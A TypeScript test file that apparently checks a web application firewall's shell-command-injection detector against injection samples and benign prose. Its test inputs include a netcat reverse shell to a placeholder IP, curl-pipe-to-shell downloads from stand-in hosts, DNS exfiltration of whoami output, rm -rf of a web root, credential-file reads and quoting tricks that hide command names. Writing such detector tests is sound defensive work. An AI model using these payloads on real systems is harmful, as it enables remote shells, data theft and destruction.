/** Which values are commands: by the place where a command begins, by its name and arguments, by the text around it. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  detectCommand,
  detectCommandLine,
  detectShell,
  SHELL_KINDS,
  SHORTEST_SHELL,
} from '../../../../../src/engine/waf/detectors/shell.ts';
import { factsOf } from '../../../../../src/engine/waf/octets/octet-buffer.ts';

describe('a command is found where a shell begins one', () => {
  test.each([
    ['a;id', 'separator and the name of a program'],
    ['8.8.8.8|whoami', 'separator and the name of a program'],
    [';env', 'separator and the name of a program'],
    [';sudo id', 'separator and the name of a program'],
    ['x.jpg$(id).png', 'substitution of a command'],
    ['1 & klist', 'separator and the name of a program'],
    ['x.txt;ls -la', 'separator and a command'],
    ['\n ls -la', 'separator and a command'],
    ["'; sleep 5 #", 'separator and a command'],
    ['& ipconfig /all', 'separator and a command'],
    ['; sudo -n cat /srv/key', 'separator and a command'],
    ['; then sleep 1; fi', 'separator and a command'],
    ['|/usr/bin/id', 'separator and a program by its path'],
    ['`id`', 'substitution of a command'],
    ['x$(hostname)', 'substitution of a command'],
    ['"; env; echo "', 'separator and the name of a program'],
    ['<(curl 10.0.0.1)', 'substitution of a command'],
    ["system('ls')", 'call that runs a command'],
    [';history', 'separator and the name of a program'],
    ['| netsh firewall set opmode disable', 'separator and a command'],
    [';./x.sh', 'separator and a program by its path'],
  ])('%j: %s', (value, expected) => expect(detectShell(value)).toBe(expected));
});

describe('quoting does not hide the name of a command', () => {
  test.each([
    [";w'h'o'am'i", 'command with quoting in its name'],
    ['|wh\\oami', 'command with quoting in its name'],
    ['& n^et^stat', 'command with quoting in its name'],
    [';wh$@oami', 'command with quoting in its name'],
    ['pi``ng 192.0.2.1', 'command with quoting in its name'],
    ['$u/bin$u/cat$u /x', 'command between empty variables'],
    ['echo${IFS}1', 'command before $IFS'],
    [';{cat,/srv/key}', 'command in braces'],
  ])('%j: %s', (value, expected) => expect(detectShell(value)).toBe(expected));
});

describe('prose, lists and code are no commands', () => {
  test.each([
    'mammal;cat;ears',
    '{cat,',
    'costs $(<',
    'name|id|price',
    '| id | name | price |',
    'Tom & Jerry; find out more',
    'LC & NC - hat.jpg',
    'the `id` of a row',
    '$(window).scroll()',
    "$('cat').show()",
    '?a=1&id=2&sort=name',
    'data:image/png;base64,iVBORw0KGgo=',
    'Mozilla/5.0 (X11; Linux x86_64; rv:1) Gecko',
    'To see it, run this; ping -c 3 host',
    '$name = f($x);\necho "hello $name";',
    'cats\nls\ndogs',
    'tsc && vite build',
    '```sh\nnode --test\n```',
    'Try `npm ls` or `docker run -v $(pwd):/app x`',
    '`python -m venv .venv; source .venv/bin/activate`',
    '* `f(id)`\n* `id` [number]',
    '<pre>$ tail -f a.log | awk "{print}"</pre>',
    'for f in *.txt; do mv "$f" a/; done',
    '#!/bin/sh\nls; cat a.txt',
  ])('%j', (value) => expect(detectShell(value)).toBeNull());
});

describe('command lines alone and commands in prose are left to stricter levels', () => {
  test.each(['ls -la', 'ifconfig', 'cat /srv/key', 'ls | head -5'])('%j', (value) => {
    expect(detectShell(value)).toBeNull();
    expect(detectCommandLine(value)).not.toBeNull();
  });

  test.each([
    'git log --oneline | head -5',
    'tar -xzf a.tgz; cd a; ./configure && make',
    'bash',
    'uptime',
    '"cat /srv"',
    'bash $(command) vs backticks',
    'curl | bash security',
    'if ($x -eq 5) { echo 5 } else { Get-Process | Stop-Process -Name a }',
    'sum=$((a+b)); echo $sum',
  ])('%j', (value) => {
    expect(detectCommandLine(value)).toBeNull();
  });

  test.each([
    'uptime; id',
    'sftp -b /srv/a',
    '"cat /srv"; id',
    'curl | bash -s x',
    'C; whoami /all',
    'pi@host; cat /etc/hosts',
    '5 * /5; wget -q a.example/b',
    "x = 'a' && cp /srv/a b",
    '{{x}} | cat /etc/hosts',
    '] || wget -q a.example/b',
    'a=/etc/hosts; cat $a',
    '1; echo $HOME',
  ])('%j is none of them', (value) => {
    expect(detectCommandLine(value)).not.toBeNull();
  });

  test.each(['please run this for me; wget -q x.example/a', 'to see it in the terminal: $(cat /srv/key)'])(
    '%j',
    (value) => {
      expect(detectShell(value)).toBeNull();
      expect(detectCommand(value)).not.toBeNull();
    },
  );
});

describe('beside prose a command is judged by what it does', () => {
  test.each([
    ['look at all of it with $(cat /srv/key) at least', 'substitution of a command'],
    ['Annual report of 2024 $(sleep 10)', 'substitution of a command'],
    ['one two three $(curl x|sh)', 'substitution of a command'],
    ['Best regards, Anna $(whoami)', 'substitution of a command'],
    ['kind words <(wget http://203.0.113.9/x) here', 'substitution of a command'],
    ['please send it to `nslookup $(whoami).x.example`', 'substitution of a command'],
    ['hello there && wget http://x.example/a', 'separator and a command'],
    ['my favourite colour is blue; curl -s http://203.0.113.9/i.sh | bash', 'separator and a command'],
    ['a nice hotel with pool | cat /etc/hosts', 'separator and a command'],
    ['our team likes it; nc -e /bin/sh 203.0.113.9 4444', 'separator and a command'],
    ['name of the year; rm -rf /var/www', 'separator and a command'],
    ['lorem ipsum dolor || sleep 15 ||', 'separator and a command'],
    ['a happy customer came ; /usr/bin/id', 'separator and a command'],
  ])('%j: %s', (value, expected) => expect(detectShell(value)).toBe(expected));

  test.each(['$(id) hello there friend', 'a;id hello there', 'subject line of mail; sleep 15 #'])(
    '%j',
    (value) => {
      expect(detectShell(value)).toBeNull();
      expect(detectCommandLine(value)).not.toBeNull();
    },
  );

  test.each(['sudo chown -R $(whoami) ~/.npm'])('%j is a command line', (value) => {
    expect(detectShell(value)).toBeNull();
    expect(detectCommandLine(value)).not.toBeNull();
  });

  test.each([
    '`x` `curl https://evil.test/x|sh`',
    '`x` `id`',
    'echo A$((1+1))$(echo A)A',
    'print(`echo A`.`echo B`)',
  ])('%j is a substitution', (value) => expect(detectShell(value)).toBe('substitution of a command'));

  test.each([
    'In bash, $(date) is replaced by the current date',
    'Dear $(name), your order $(id) ships on $(date).',
    'Install with `curl -fsSL https://get.example.com | sh`',
    'Run `ls -la` to list all files, `id` to see groups',
    '`users`.`id` = `orders`.`user_id`',
    'First cd /opt && wget https://x.example/f.tgz && tar xzf f.tgz',
    'Please sleep; sleep 8 hours a night',
    'Jack & Jill; kill -9 joke',
    'unplug the router; wait; then ping 192.168.1.1',
    'You can get it from https://x.example/a; curl or wget works',
    'Curl your hair first; cut it later',
  ])('%j', (value) => {
    expect(detectShell(value)).toBeNull();
    expect(detectCommandLine(value)).toBeNull();
  });
});

const PIECES = [
  '`',
  '$(',
  ';',
  '|',
  '&',
  '\n',
  ' ',
  'ls',
  'cat',
  'whoami',
  '(',
  '"',
  "'",
  '=',
  '{',
  ',',
  '$IFS',
  '\\',
  '/',
];

test('every detected value has an octet of SHELL_KINDS and SHORTEST_SHELL octets', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 10 }), (parts) => {
      const value = parts.join('');
      if (detectShell(value) === null) return;
      expect(factsOf(value).shape & SHELL_KINDS).not.toBe(0);
      expect(value.length).toBeGreaterThanOrEqual(SHORTEST_SHELL);
    }),
    { numRuns: 5_000 },
  );
});

test('any octets are read without an error, and the result does not depend on what was read before', () => {
  const values = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ unit: 'binary', maxLength: 3 })), {
    maxLength: 24,
  });
  fc.assert(
    fc.property(values, (parts) => {
      const value = parts.join('').replace(/[^\0-\xff]/g, 'x');
      const fresh = [detectShell, detectCommandLine, detectCommand].map((detect) => {
        detect('x');
        return detect(value);
      });
      expect([detectShell(value), detectCommandLine(value), detectCommand(value)]).toEqual(fresh);
      expect([detectCommand(value), detectCommandLine(value), detectShell(value)]).toEqual(fresh.reverse());
    }),
    { numRuns: 3_000 },
  );
});
